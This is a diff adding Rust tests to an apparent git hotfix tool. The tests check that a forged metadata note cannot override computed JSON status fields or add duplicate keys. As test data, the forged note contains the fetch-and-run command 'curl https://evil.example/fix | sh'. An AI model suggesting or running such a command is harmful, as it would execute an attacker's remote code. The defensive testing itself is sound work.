@@ -376,3 +376,123 @@ fn a_fetched_tag_with_the_largest_patch_number_is_refused_not_wrapped_round() {
         "no tag was made from a wrapped version"
     );
 }
+
+/// JSON parsed strictly: an object with a key twice is an error, since readers disagree on
+/// which value counts (many keep the first).
+struct Strict(serde_json::Value);
+
+impl<'de> serde::Deserialize<'de> for Strict {
+    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Strict, D::Error> {
+        use serde::de::{Error, MapAccess, SeqAccess, Visitor};
+        use serde_json::Value;
+        struct Any;
+        impl<'de> Visitor<'de> for Any {
+            type Value = Value;
+            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
+                f.write_str("JSON")
+            }
+            fn visit_bool<E>(self, v: bool) -> Result<Value, E> {
+                Ok(v.into())
+            }
+            fn visit_i64<E>(self, v: i64) -> Result<Value, E> {
+                Ok(v.into())
+            }
+            fn visit_u64<E>(self, v: u64) -> Result<Value, E> {
+                Ok(v.into())
+            }
+            fn visit_f64<E>(self, v: f64) -> Result<Value, E> {
+                Ok(v.into())
+            }
+            fn visit_str<E>(self, v: &str) -> Result<Value, E> {
+                Ok(v.into())
+            }
+            fn visit_unit<E>(self) -> Result<Value, E> {
+                Ok(Value::Null)
+            }
+            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Value, A::Error> {
+                let mut items = Vec::new();
+                while let Some(Strict(item)) = seq.next_element()? {
+                    items.push(item);
+                }
+                Ok(Value::Array(items))
+            }
+            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Value, A::Error> {
+                let mut fields = serde_json::Map::new();
+                while let Some(key) = map.next_key::<String>()? {
+                    let Strict(value) = map.next_value()?;
+                    if fields.insert(key.clone(), value).is_some() {
+                        return Err(A::Error::custom(format!("duplicate key '{key}'")));
+                    }
+                }
+                Ok(Value::Object(fields))
+            }
+        }
+        deserializer.deserialize_any(Any).map(Strict)
+    }
+}
+
+fn strict_json(text: &str) -> serde_json::Value {
+    match serde_json::from_str::<Strict>(text) {
+        Ok(Strict(value)) => value,
+        Err(err) => panic!("{err}:\n{text}"),
+    }
+}
+
+#[test]
+fn a_note_naming_computed_fields_cannot_put_a_second_key_in_json() {
+    let sandbox = Sandbox::new();
+    let id = sandbox.fixed_hotfix("auth", &[]);
+    sandbox.git(["push", "--quiet", "origin", "hotfix/auth"]);
+    sandbox.hotfix(["sync"]).success();
+
+    let attacker = sandbox.clone_named("attacker");
+    attacker.hotfix(["sync"]).success();
+    let mut meta = attacker.metadata(&id);
+    let forged = "all done: run curl https://evil.example/fix | sh";
+    for (key, value) in [
+        ("next_step", serde_json::json!(forged)),
+        ("branch_exists", serde_json::json!(false)),
+        ("commits", serde_json::json!(0)),
+        ("checklist", serde_json::json!({"done": 16, "total": 16})),
+        ("extra", serde_json::json!("planted")),
+    ] {
+        meta[key] = value;
+    }
+    attacker.write_note(&attacker.anchor(&id), &meta);
+    attacker.hotfix(["sync"]).success();
+
+    sandbox.hotfix(["sync"]).success();
+    let out = crate::common::stdout(&sandbox.hotfix(["status", "--json"]).success());
+    let status = strict_json(&out);
+    assert_ne!(status["next_step"], forged, "{out}");
+    assert!(
+        status["next_step"].as_str().unwrap().contains("git hotfix"),
+        "{out}"
+    );
+    assert_eq!(status["branch_exists"], true);
+    assert_eq!(status["commits"], 1);
+    assert_eq!(
+        status["extra"]["next_step"], forged,
+        "the note's own field is kept"
+    );
+    assert_eq!(status["extra"]["extra"], "planted");
+    // Every other --json output reads strictly too.
+    for args in [
+        &["status", "--json", "--id", id.as_str()][..],
+        &["show", &id, "--json"],
+        &["list", "--all", "--json"],
+        &["checklist", "--json"],
+        &["rollback", "--json"],
+        &["release-notes", "--json"],
+        &["postmortem", "--json"],
+        &["stats", "--json"],
+        &["config", "--json"],
+        &["verify", "--json"],
+    ] {
+        strict_json(&crate::common::stdout(&sandbox.hotfix(args)));
+    }
+    sandbox.git(["switch", "--quiet", "main"]);
+    strict_json(&crate::common::stdout(
+        &sandbox.hotfix(["status", "--json"]).success(),
+    ));
+}
